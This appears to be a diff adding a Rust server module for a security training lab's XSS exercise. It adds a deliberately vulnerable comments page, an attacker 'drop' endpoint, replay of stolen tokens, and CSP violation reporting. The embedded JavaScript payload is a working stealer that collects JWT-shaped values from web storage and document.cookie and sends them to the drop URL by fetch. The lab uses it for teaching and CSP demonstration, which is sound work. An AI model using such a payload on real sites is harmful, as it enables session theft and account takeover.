@@ -1,0 +1,245 @@
+//! The attack lab's XSS card, server side: a deliberately vulnerable page, the attacker's drop and
+//! the browser's CSP reports.
+//!
+//! - `GET /attacks/xss-victim?run=…` is a comments page that prints a comment as raw HTML, the
+//!   classic stored-XSS bug. The comment is the attacker's and holds a real inline `<script>`.
+//!   The lab plants it itself: the page renders nothing a request sends (the run nonce is checked
+//!   to be 16 to 64 URL-safe characters), so it cannot be turned against anyone else. It needs a
+//!   signed-in session: the page is served **without** a Content-Security-Policy only for an
+//!   account that switched `xss_weakened` on (that account only, that page only, and the page
+//!   says so); for everyone else it carries the lab's own policy, which refuses an inline script
+//!   without the response's nonce, and a `report-uri` so the browser tells the lab it did.
+//! - `POST /attacker/xss-drop?run=…` is where the script sends what it found (served under any of
+//!   the lab's names; the card's script uses the second site's). The attacker then replays the
+//!   first stolen token from another client (`GET /api/me`, another address, no cookie) and the
+//!   lab records the answer. Only the first characters of anything stolen are kept.
+//! - `POST /api/lab/xss/csp-report?run=…` takes the browser's CSP violation report.
+//! - `GET /api/lab/xss/result?run=…` is what the card reads back.
+
+use super::{
+    cross_site_probe::is_nonce,
+    in_process::{InProcessRequest, InProcessResponse},
+};
+use crate::{
+    api::{client_addr::ClientAddr, error::ApiError, extract::cookie_user::CookieUser},
+    auth::echo,
+    security_headers,
+    state::AppState,
+    wire::{ApiErrorBody, Me, XssFinding, XssReplay, XssResult},
+};
+use axum::{
+    body::Bytes,
+    extract::{Query, State},
+    http::{header, HeaderMap, HeaderValue, Method},
+    response::{Html, IntoResponse, Response},
+    routing::{get, post},
+    Json, Router,
+};
+use serde::Deserialize;
+
+/// The most a drop or a CSP report may carry; anything longer is refused unread.
+const MAX_BODY: usize = 8 * 1024;
+/// Findings kept per drop, and characters kept of each stolen value.
+const MAX_FINDINGS: usize = 8;
+const PREVIEW_CHARS: usize = 24;
+/// The attacker's other client, as the replay's sender address (TEST-NET-3).
+const ATTACKER_CLIENT: &str = "203.0.113.66";
+
+pub fn router() -> Router<AppState> {
+    Router::new()
+        .route("/attacks/xss-victim", get(victim_page))
+        .route("/attacker/xss-drop", post(drop))
+        .route("/api/lab/xss/csp-report", post(csp_report))
+        .route("/api/lab/xss/result", get(result))
+}
+
+#[derive(Deserialize)]
+struct RunId {
+    run: String,
+}
+
+/// The run nonce, or a 422 (anything else is refused unread).
+fn checked(run: &str) -> Result<&str, ApiError> {
+    is_nonce(run).then_some(run).ok_or_else(|| {
+        ApiError::InvalidBody("run must be 16 to 64 characters of A-Z a-z 0-9 - _".into())
+    })
+}
+
+/// The attacker's script, as it would arrive in a comment: it reads every storage a script can
+/// read for token-shaped values, and `document.cookie`, and sends them to `drop_url`.
+fn payload(drop_url: &str) -> String {
+    format!(
+        r#"(function () {{
+  var found = [];
+  [["localStorage", window.localStorage], ["sessionStorage", window.sessionStorage]].forEach(function (s) {{
+    for (var i = 0; i < s[1].length; i++) {{
+      var key = s[1].key(i), value = s[1].getItem(key) || "";
+      if (/^eyJ[\w-]*\.[\w-]*\.[\w-]*$/.test(value)) found.push({{ place: s[0] + "[" + key + "]", value: value }});
+    }}
+  }});
+  fetch("{drop_url}", {{ method: "POST", mode: "no-cors", body: JSON.stringify({{ found: found, cookie: document.cookie }}) }});
+}})();"#
+    )
+}
+
+async fn victim_page(
+    State(state): State<AppState>,
+    user: CookieUser,
+    headers: HeaderMap,
+    Query(query): Query<RunId>,
+) -> Result<Response, ApiError> {
+    let run = checked(&query.run)?;
+    let switches = state.account_settings.get(user.session.user.id).await?;
+    let host = headers
+        .get(header::HOST)
+        .and_then(|h| h.to_str().ok())
+        .unwrap_or("");
+    // The loot goes to the second site when there is one, as a real attacker's would.
+    let attacker = state
+        .hosting
+        .attacker_origin_for("http", host)
+        .unwrap_or_default();
+    let drop_url = format!("{attacker}/attacker/xss-drop?run={run}");
+    let (banner, policy) = if switches.xss_weakened {
+        (
+            "Content-Security-Policy is OFF on this page, for this account only (deliberately \
+             weakened in the attack lab): the script in the comment below runs.",
+            None,
+        )
+    } else {
+        // The lab's own policy (an inline script needs this response's nonce, which the planted
+        // one cannot know), framed only by the lab itself, and the browser reports the refusal.
+        let nonce = crate::auth::csrf::new_token();
+        let policy = security_headers::policy(&nonce, None)
+            .replace("frame-ancestors 'none'", "frame-ancestors 'self'");
+        (
+            "Content-Security-Policy is ON: the script in the comment below is refused by the \
+             browser, and the browser reports it to the lab.",
+            Some(format!(
+                "{policy}; report-uri /api/lab/xss/csp-report?run={run}"
+            )),
+        )
+    };
+    let page = format!(
+        r#"<!DOCTYPE html>
+<html lang="en">
+<head><meta charset="utf-8"><title>Comments (a deliberately vulnerable page)</title></head>
+<body>
+<p><strong>A deliberately vulnerable page of the attack lab.</strong> {banner}</p>
+<h1>Comments</h1>
+<div class="comment"><b>mallory</b> wrote: Great post, thanks!<script>{script}</script></div>
+</body>
+</html>"#,
+        script = payload(&drop_url),
+    );
+    let mut response = Html(page).into_response();
+    let headers = response.headers_mut();
+    if let Some(value) = policy.and_then(|p| HeaderValue::from_str(&p).ok()) {
+        headers.insert(header::CONTENT_SECURITY_POLICY, value);
+    }
+    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
+    Ok(response)
+}
+
+#[derive(Deserialize)]
+struct Loot {
+    #[serde(default)]
+    found: Vec<Stolen>,
+    #[serde(default)]
+    cookie: String,
+}
+
+#[derive(Deserialize)]
+struct Stolen {
+    place: String,
+    value: String,
+}
+
+async fn drop(
+    State(state): State<AppState>,
+    Query(query): Query<RunId>,
+    body: Bytes,
+) -> Result<Response, ApiError> {
+    let run = checked(&query.run)?.to_string();
+    if body.len() > MAX_BODY {
+        return Err(ApiError::BodyTooLarge(MAX_BODY));
+    }
+    let loot: Loot = serde_json::from_slice(&body)
+        .map_err(|_| ApiError::InvalidBody("a drop is JSON: {found, cookie}".into()))?;
+    // The attacker replays the first stolen token from their own client.
+    let replay = match loot.found.first() {
+        Some(stolen) if stolen.value.len() <= MAX_BODY => Some(replay(&state, &stolen.value).await),
+        _ => None,
+    };
+    let found: Vec<XssFinding> = loot
+        .found
+        .iter()
+        .take(MAX_FINDINGS)
+        .map(|s| XssFinding {
+            place: echo::shown(&s.place, 64),
+            preview: echo::shown(&s.value, PREVIEW_CHARS),
+        })
+        .collect();
+    let cookie_seen = echo::shown(&loot.cookie, 200);
+    state
+        .xss_runs
+        .update(&run, crate::db::unix_now(), move |record| {
+            record.script_ran = true;
+            record.found = found;
+            record.cookie_seen = Some(cookie_seen);
+            record.replay = replay;
+        });
+    Ok(axum::http::StatusCode::NO_CONTENT.into_response())
+}
+
+/// `GET /api/me` with the stolen token, from the attacker's address, with no cookie.
+async fn replay(state: &AppState, token: &str) -> XssReplay {
+    let answer: InProcessResponse = InProcessRequest::new(Method::GET, "/api/me")
+        .bearer(token)
+        .on_behalf_of(&ClientAddr(ATTACKER_CLIENT.into()))
+        .send(state)
+        .await;
+    let refused_by = answer
+        .json::<ApiErrorBody>()
+        .and_then(|body| body.auth)
+        .and_then(|trace| trace.failed_check().map(|c| c.name.to_string()));
+    XssReplay {
+        status: answer.status.as_u16(),
+        username: answer.json::<Me>().map(|me| me.username),
+        refused_by,
+        client: ATTACKER_CLIENT.into(),
+    }
+}
+
+async fn csp_report(
+    State(state): State<AppState>,
+    Query(query): Query<RunId>,
+    body: Bytes,
+) -> Result<Response, ApiError> {
+    let run = checked(&query.run)?.to_string();
+    if body.len() > MAX_BODY {
+        return Err(ApiError::BodyTooLarge(MAX_BODY));
+    }
+    let report: serde_json::Value = serde_json::from_slice(&body)
+        .map_err(|_| ApiError::InvalidBody("a CSP report is JSON".into()))?;
+    let directive = report
+        .pointer("/csp-report/effective-directive")
+        .or_else(|| report.pointer("/csp-report/violated-directive"))
+        .and_then(|d| d.as_str())
+        .unwrap_or("a directive the report did not name");
+    let directive = echo::shown(directive, 64);
+    state
+        .xss_runs
+        .update(&run, crate::db::unix_now(), move |record| {
+            record.csp_blocked = Some(directive);
+        });
+    Ok(axum::http::StatusCode::NO_CONTENT.into_response())
+}
+
+async fn result(
+    State(state): State<AppState>,
+    Query(query): Query<RunId>,
+) -> Result<Json<XssResult>, ApiError> {
+    let run = checked(&query.run)?;
+    Ok(Json(state.xss_runs.get(run).unwrap_or_default()))
+}
